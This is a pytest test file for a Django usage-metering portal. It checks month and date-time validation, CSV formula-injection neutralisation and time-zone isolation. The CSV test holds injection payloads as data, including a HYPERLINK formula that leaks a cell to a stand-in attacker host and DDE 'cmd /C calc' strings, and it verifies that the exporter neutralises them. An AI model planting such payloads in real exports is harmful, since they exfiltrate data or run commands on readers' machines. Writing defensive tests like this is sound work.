"""Bad input on the usage pages, exports and API (issue 13): months and date-times out of range
are a 4xx that says what is accepted, CSV cells cannot run as spreadsheet formulas, and a page's
time zone does not leak into the next request on the same thread."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.test import Client
from django.utils import timezone

from catalog.models import ResourceClass
from core import audit
from metering import exports, selectors
from metering.models import AllocationInterval
from scheduler.cluster.models import Cluster
from tests.portal.api.conftest import session

pytestmark = pytest.mark.django_db

OUT_OF_RANGE = ["9999-12", "0001-01", "1999-12", "3000-01"]
NOT_A_MONTH = ["soon", "2026-13", "2026-00", "10000-01", "+2026-11", " 2026-11", "٢٠٢٦-١١"]


def api_urls(slug):
    return [
        "/api/v1/usage/statements/",
        f"/api/v1/usage/statements/{slug}/",
        "/api/v1/usage/statements/csv/",
        f"/api/v1/usage/statements/{slug}/csv/",
    ]


def page_urls(slug):
    return [
        f"/usage/teams/{slug}/",
        f"/usage/teams/{slug}/statement.csv",
        f"/usage/teams/{slug}/statement.json",
        "/usage/platform/",
        "/usage/platform/chargeback.csv",
        "/usage/platform/chargeback.json",
    ]


def test_parse_month_accepts_the_documented_range_only():
    assert selectors.parse_month("2000-01") == selectors.FIRST_MONTH
    assert selectors.parse_month("2999-12") == selectors.LAST_MONTH
    assert selectors.parse_month("2026-1").month == 1
    for value in OUT_OF_RANGE + NOT_A_MONTH:
        with pytest.raises(ValueError, match="2000-01 to 2999-12"):
            selectors.parse_month(value)


def test_a_month_out_of_range_is_a_400_of_the_api_that_says_which(world):
    client = session(world.admin)
    for url in api_urls(world.tenant.slug):
        for month in OUT_OF_RANGE + NOT_A_MONTH:
            response = client.get(url, {"month": month})
            assert response.status_code == 400, (url, month)
            body = response.json()
            assert body["code"] == "invalid", (url, month)
            assert "2000-01 to 2999-12" in body["detail"]
            assert body["errors"]["month"]


def test_a_month_out_of_range_is_a_400_page_that_says_which(world):
    browser = Client(raise_request_exception=False)
    browser.force_login(world.admin)
    for url in page_urls(world.tenant.slug):
        for month in OUT_OF_RANGE + NOT_A_MONTH:
            response = browser.get(url, {"month": month})
            assert response.status_code == 400, (url, month)
            assert "2000-01 to 2999-12" in response.content.decode(), (url, month)
    # the first and the last month still show, with no link beyond them
    first = browser.get(f"/usage/teams/{world.tenant.slug}/", {"month": "2000-01"})
    last = browser.get(f"/usage/teams/{world.tenant.slug}/", {"month": "2999-12"})
    assert first.status_code == 200 and last.status_code == 200
    assert "?month=1999-12" not in first.content.decode()
    assert "?month=3000-01" not in last.content.decode()


@pytest.mark.parametrize(
    "since",
    ["0001-01-01T00:00:00+05:00", "9999-12-31T23:00:00-05:00", "0001-01-01T00:00:00+19:48"],
)
def test_a_date_time_beyond_the_calendar_is_a_400_not_a_500(world, since):
    api = session(world.admin).get("/api/v1/usage/intervals/", {"since": since})
    assert api.status_code == 400 and api.json()["errors"]["since"]
    browser = Client(raise_request_exception=False)
    browser.force_login(world.admin)
    for name in ("since", "until"):
        page = browser.get("/console/audit/", {name: since})
        assert page.status_code == 200  # the filter form shows the error, as for any bad value
        assert "out of range" in page.content.decode()


def test_csv_cells_cannot_start_a_formula():
    row = {
        "tenant": "team-a",
        "cost_centre": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "month": "2026-11",
        "basis": "allocation",
        "currency": "USD",
        "mode": "chargeback",
        "lines": [
            {
                "resource_class": "+cmd|' /C calc'!A0",
                "name": "@SUM(1+1)",
                "gpu_fraction": "0.375",
                "allocated_hours": "-3.5",  # a number column: a negative number stays a number
                "allocated_gpu_hours": "-1E-7",
                "allocated_cost": "-2+3+cmd|' /C calc'!A0",  # not a number: neutralised
                "quota_hours": "\t=1+1",
                "quota_gpu_hours": "\r=1+1",
                "quota_cost": "0",
                "billed_cost": "12.5000",
                "observed_hours": "",
                "used_hours": "1",
                "idle_hours": "2",
                "idle_cost": "-0.25",
                "waived_hours": "0.0000",
                "waived_cost": "=1+1",
            }
        ],
    }
    (line,) = list(csv.DictReader(io.StringIO(exports.statements_csv([row]))))
    assert line["cost_centre"] == "'" + row["cost_centre"]
    assert line["resource_class"] == "'+cmd|' /C calc'!A0"
    assert line["name"] == "'@SUM(1+1)"
    assert line["allocated_cost"] == "'-2+3+cmd|' /C calc'!A0"
    assert line["quota_hours"] == "'\t=1+1"
    assert line["quota_gpu_hours"] == "'\r=1+1"
    assert line["allocated_hours"] == "-3.5" and line["idle_cost"] == "-0.25"
    assert line["allocated_gpu_hours"] == "-1E-7"
    assert line["waived_cost"] == "'=1+1"
    assert line["billed_cost"] == "12.5000" and line["observed_hours"] == ""
    # a text column that happens to hold a negative number is text: neutralised too
    assert exports.csv_cell("-3.5") == "'-3.5"
    assert exports.csv_cell("-3.5", number=True) == "-3.5"
    assert exports.csv_cell("team-a") == "team-a"


@time_machine.travel(datetime(2026, 11, 15, 12, 0, tzinfo=UTC))
def test_a_tenants_cost_centre_is_exported_neutralised(world):
    world.tenant.cost_centre = "=1+2"
    world.tenant.save(update_fields=["cost_centre"])
    ResourceClass.objects.filter(pk=world.rc.pk).update(gpu_model="-A100")  # its display name
    now = timezone.now()
    AllocationInterval.objects.create(
        cluster=Cluster.objects.create(name="local"),
        pod_uid="u1",
        namespace="ns-a",
        pod_name="train-0",
        node_name="n",
        tenant=world.tenant,
        resource_class=world.rc,
        resource_name=world.rc.resource_name,
        units=2,
        started_at=now - timedelta(hours=3),
        last_seen_at=now - timedelta(minutes=1),
    )
    browser = Client()
    browser.force_login(world.admin)
    for url in (
        f"/usage/teams/{world.tenant.slug}/statement.csv",
        "/usage/platform/chargeback.csv",
        "/api/v1/usage/statements/csv/",
    ):
        text = browser.get(url, {"month": "2026-11"}).content.decode()
        mine = [r for r in csv.DictReader(io.StringIO(text)) if r["tenant"] == world.tenant.slug]
        assert mine and all(r["cost_centre"] == "'=1+2" for r in mine), url
        assert all(r["name"].startswith("'-A100 ") for r in mine), url
        assert all(float(r["allocated_hours"]) > 5 for r in mine), url  # a number, as is


def test_a_pages_time_zone_does_not_leak_into_the_next_request_on_the_thread(world, settings):
    settings.TIME_ZONE = "UTC"
    with time_machine.travel(datetime(2026, 11, 15, 12, 0, tzinfo=UTC), tick=False):
        audit.record(actor=world.admin, verb="test.leak", obj=None, tenant=None)
    member = Client()
    member.force_login(world.member)
    assert member.get(f"/usage/teams/{world.tenant.slug}/?tz=Asia/Tokyo").status_code == 200
    assert timezone.get_current_timezone_name() == settings.TIME_ZONE
    # another person's next page on this thread shows times in the default zone, not Tokyo's
    admin = Client()
    admin.force_login(world.admin)
    html = admin.get("/console/audit/", {"verb": "test.leak"}).content.decode()
    assert "2026-11-15 12:00:00" in html and "2026-11-15 21:00:00" not in html
    # and the platform page (which takes ?tz= too) leaves no zone behind either
    assert admin.get("/usage/platform/?tz=America/New_York").status_code == 200
    assert timezone.get_current_timezone_name() == settings.TIME_ZONE
